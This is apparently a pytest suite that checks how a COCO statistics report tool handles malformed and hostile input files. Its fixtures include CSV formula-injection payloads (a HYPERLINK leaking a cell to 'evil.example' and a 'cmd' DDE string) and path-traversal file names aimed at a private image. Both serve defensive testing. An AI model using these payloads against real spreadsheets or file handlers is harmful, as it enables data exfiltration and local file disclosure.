"""Hostile and broken COCO files given to ``tools/stats_report.py``.

Each case mutates one field of a valid predictions file. The tool must stop with a message that
names the file and the field (``annotations[0] ... segmentation``), leave no output folder
behind, and never decode the bad geometry (a NaN vertex once grew the process to 24 GB). Cases
that are valid but hostile (formula-like names, an absolute ``file_name``, an ``overlay`` that
climbs out of the folder) must run and must not leak: CSV cells are neutralised and the report
embeds no image from outside the data folder.
"""
from __future__ import annotations

import copy
import csv
import json
from pathlib import Path

import numpy as np
import pytest

from tests.badinput.harness import assert_refused, run_tool, snapshot


def _base() -> dict:
    square = [10.0, 10.0, 40.0, 10.0, 40.0, 40.0, 10.0, 40.0]
    return {
        "images": [
            {"id": 1, "file_name": "a.png", "width": 64, "height": 64, "pixel_size": 2.0,
             "unit": "nm"},
            {"id": 2, "file_name": "b.png", "width": 64, "height": 64, "pixel_size": 2.0,
             "unit": "nm"},
        ],
        "categories": [{"id": 1, "name": "particle"}],
        "annotations": [
            {"id": 1, "image_id": 1, "category_id": 1, "segmentation": [square],
             "bbox": [10.0, 10.0, 30.0, 30.0], "area": 900.0, "score": 0.9, "iscrowd": 0},
            {"id": 2, "image_id": 2, "category_id": 1,
             "segmentation": {"size": [64, 64], "counts": [0, 100, 3996]},
             "bbox": [0.0, 0.0, 2.0, 64.0], "area": 100.0, "score": 0.8, "iscrowd": 0},
        ],
    }


def _set(path: str, value):
    """A mutation that sets ``path`` (``annotations.0.segmentation.0.3``) to ``value``."""
    def mutate(data):
        keys = [int(k) if k.lstrip("-").isdigit() else k for k in path.split(".")]
        node = data
        for k in keys[:-1]:
            node = node[k]
        node[keys[-1]] = value
        return data
    return mutate


def _delete(path: str):
    def mutate(data):
        keys = [int(k) if k.lstrip("-").isdigit() else k for k in path.split(".")]
        node = data
        for k in keys[:-1]:
            node = node[k]
        del node[keys[-1]]
        return data
    return mutate


def _dup_image_id(data):
    data["images"][1]["id"] = 1
    return data


def _dup_ann_id(data):
    data["annotations"][1]["id"] = 1
    return data


#: case -> (mutation of the base data, or raw bytes of the file; words the message must name)
REFUSED = {
    "nan_vertex": (_set("annotations.0.segmentation.0.3", float("nan")),
                   ["annotations[0]", "segmentation"]),
    "infinite_vertex": (_set("annotations.0.segmentation.0.0", float("inf")),
                        ["annotations[0]", "segmentation"]),
    "huge_vertex": (_set("annotations.0.segmentation.0.2", 1e12), ["annotations[0]",
                                                                   "segmentation"]),
    "negative_huge_vertex": (_set("annotations.0.segmentation.0.1", -1e9),
                             ["annotations[0]", "segmentation"]),
    "string_vertex": (_set("annotations.0.segmentation.0.4", "40"),
                      ["annotations[0]", "segmentation"]),
    "odd_polygon": (_set("annotations.0.segmentation.0", [1.0, 2.0, 3.0]),
                    ["annotations[0]", "segmentation"]),
    "segmentation_number": (_set("annotations.0.segmentation", 7),
                            ["annotations[0]", "segmentation"]),
    "rle_wrong_size": (_set("annotations.1.segmentation.size", [32, 32]),
                       ["annotations[1]", "size"]),
    "rle_counts_too_long": (_set("annotations.1.segmentation.counts", [0, 100, 9000]),
                            ["annotations[1]", "counts"]),
    "rle_counts_negative": (_set("annotations.1.segmentation.counts", [0, -100, 4196]),
                            ["annotations[1]", "counts"]),
    "rle_counts_not_rle": (_set("annotations.1.segmentation.counts", "\x00\x01zz~~~"),
                           ["annotations[1]", "counts"]),
    "rle_huge_size": (_set("annotations.1.segmentation.size", [10**6, 10**6]),
                      ["annotations[1]", "size"]),
    "bbox_nan": (_set("annotations.0.bbox.2", float("nan")), ["annotations[0]", "bbox"]),
    "bbox_short": (_set("annotations.0.bbox", [1, 2, 3]), ["annotations[0]", "bbox"]),
    "score_nan": (_set("annotations.0.score", float("nan")), ["annotations[0]", "score"]),
    "score_text": (_set("annotations.0.score", "high"), ["annotations[0]", "score"]),
    "image_id_missing": (_set("annotations.0.image_id", 99), ["annotations[0]", "image_id"]),
    "category_id_missing": (_set("annotations.0.category_id", 5),
                            ["annotations[0]", "category_id"]),
    "duplicate_image_id": (_dup_image_id, ["images", "id"]),
    "duplicate_annotation_id": (_dup_ann_id, ["annotations", "id"]),
    "image_without_height": (_delete("images.0.height"), ["images[0]", "height"]),
    "image_width_zero": (_set("images.0.width", 0), ["images[0]", "width"]),
    "image_width_text": (_set("images.0.width", "64"), ["images[0]", "width"]),
    "image_huge": (_set("images.0.width", 10**7), ["images[0]", "width"]),
    "pixel_size_negative": (_set("images.0.pixel_size", -2.0), ["images[0]", "pixel_size"]),
    "pixel_size_nan": (_set("images.0.pixel_size", float("nan")), ["images[0]", "pixel_size"]),
    "pixel_size_text": (_set("images.0.pixel_size", "2 nm"), ["images[0]", "pixel_size"]),
    "images_not_list": (_set("images", {"1": "a.png"}), ["images"]),
    "annotation_not_object": (_set("annotations.0", [1, 2, 3]), ["annotations[0]"]),
    "category_without_name": (_delete("categories.0.name"), ["categories[0]", "name"]),
    "top_level_list": (b"[]", ["JSON object"]),
    "not_json": (b"images: []\n", ["JSON"]),
    "empty_file": (b"", ["JSON"]),
    "not_utf8": (b'{"images": "\xff\xfe"}', ["UTF-8"]),
    "nan_literal": (b'{"images": [], "categories": [], "annotations": [], "x": NaN}', ["NaN"]),
    "truncated_json": (b'{"images": [{"id": 1, "width": 6', ["JSON"]),
}


def _write(path: Path, case) -> None:
    if isinstance(case, bytes):
        path.write_bytes(case)
    else:
        # json.dumps writes NaN/Infinity literals for the non-finite cases, as a careless tool would
        path.write_text(json.dumps(case(copy.deepcopy(_base()))))


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_stats_report_refuses_with_file_and_field(tmp_path, name):
    mutation, needles = REFUSED[name]
    src = tmp_path / "in"
    src.mkdir()
    coco = src / f"{name}.json"
    _write(coco, mutation)
    before = snapshot(src)
    out = tmp_path / "stats"
    outcome = run_tool("stats_report", ["--input", coco, "--output", out],
                       case=f"stats/{name}")
    assert_refused(outcome, f"{name}.json", *needles)
    assert snapshot(src) == before
    assert snapshot(out) == {}, "partial output left behind"


def test_the_base_file_is_accepted(tmp_path):
    coco = tmp_path / "good.json"
    coco.write_text(json.dumps(_base()))
    outcome = run_tool("stats_report", ["--input", coco, "--output", tmp_path / "o"],
                       case="stats/valid_base")
    assert outcome.traceback is None and outcome.code in (0, None), outcome.message
    assert "2 objects in 2 images" in outcome.stdout


def _png(path: Path, value: int) -> None:
    import cv2

    cv2.imwrite(str(path), np.full((64, 64), value, np.uint8))


def test_formula_names_are_neutralised_in_every_csv(tmp_path):
    data = _base()
    data["categories"][0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    data["images"][0]["file_name"] = "+cmd|' /C calc'!A0.png"
    data["images"][1]["file_name"] = "@SUM(1+1).png"
    coco = tmp_path / "formula.json"
    coco.write_text(json.dumps(data))
    out = tmp_path / "o"
    outcome = run_tool("stats_report", ["--input", coco, "--output", out],
                       case="stats/csv_formula_names")
    assert outcome.traceback is None and outcome.code in (0, None), outcome.message
    for table in ("instances.csv", "summary.csv"):
        with open(out / table, newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert cells, table
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not _number(c)], table
        assert any("HYPERLINK" in c for c in cells), "the name itself must survive"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_report_embeds_no_image_from_outside_the_data_folder(tmp_path):
    secret_dir = tmp_path / "home"
    secret_dir.mkdir()
    _png(secret_dir / "secret.png", 77)  # a private image elsewhere on the disk
    data_dir = tmp_path / "data"
    (data_dir / "images").mkdir(parents=True)
    _png(data_dir / "images" / "b.png", 20)
    data = _base()
    data["images"][0]["file_name"] = str(secret_dir / "secret.png")  # absolute
    data["images"][1]["file_name"] = "b.png"
    data["images"][1]["overlay"] = "../../home/secret.png"          # climbing out
    coco = data_dir / "predictions.json"
    coco.write_text(json.dumps(data))
    out = tmp_path / "o"
    outcome = run_tool("stats_report", [
        "--input", coco, "--output", out, "--images", data_dir / "images", "--max-overlays", "4",
    ], case="stats/local_file_disclosure")
    assert outcome.traceback is None and outcome.code in (0, None), outcome.message
    html = (out / "report.html").read_text()
    import base64
    import re

    embedded = [base64.b64decode(b) for b in re.findall(r"data:image/png;base64,([A-Za-z0-9+/=]+)",
                                                        html)]
    secret = (secret_dir / "secret.png").read_bytes()
    assert secret not in embedded
    assert all(b"secret" not in e for e in embedded)
    for png in embedded:  # no embedded image shows the secret's grey level 77
        import cv2

        img = cv2.imdecode(np.frombuffer(png, np.uint8), cv2.IMREAD_UNCHANGED)
        if img is not None and img.ndim == 2:
            assert not (img == 77).all()


#: option case -> (extra arguments, words the message must contain)
OPTIONS = {
    "pixel_size_nan": (["--pixel-size", "nan"], ["--pixel-size"]),
    "pixel_size_inf": (["--pixel-size", "inf"], ["--pixel-size"]),
    "pixel_size_negative": (["--pixel-size", "-1"], ["--pixel-size"]),
    "score_threshold_nan": (["--score-threshold", "nan"], ["--score-threshold"]),
    "score_threshold_above_one": (["--score-threshold", "2"], ["--score-threshold"]),
    "frame_interval_zero": (["--frame-interval", "0"], ["--frame-interval"]),
    "frame_interval_nan": (["--frame-interval", "nan"], ["--frame-interval"]),
    "max_overlays_negative": (["--max-overlays", "-1"], ["--max-overlays"]),
    "input_is_a_folder": (["--input", "{dir}"], ["folder"]),
    "output_is_a_file": (["--output", "{file}"], ["is a file"]),
}


@pytest.mark.parametrize("name", sorted(OPTIONS))
def test_stats_report_refuses_impossible_options(tmp_path, name):
    extra, needles = OPTIONS[name]
    coco = tmp_path / "good.json"
    coco.write_text(json.dumps(_base()))
    notes = tmp_path / "notes.txt"
    notes.write_text("keep me\n")
    extra = [a.replace("{dir}", str(tmp_path)).replace("{file}", str(notes)) for a in extra]
    args = ["--input", coco, "--output", tmp_path / "o", *extra]
    before = snapshot(tmp_path)
    outcome = run_tool("stats_report", args, case=f"stats/options/{name}")
    assert_refused(outcome, *needles)
    assert snapshot(tmp_path) == before
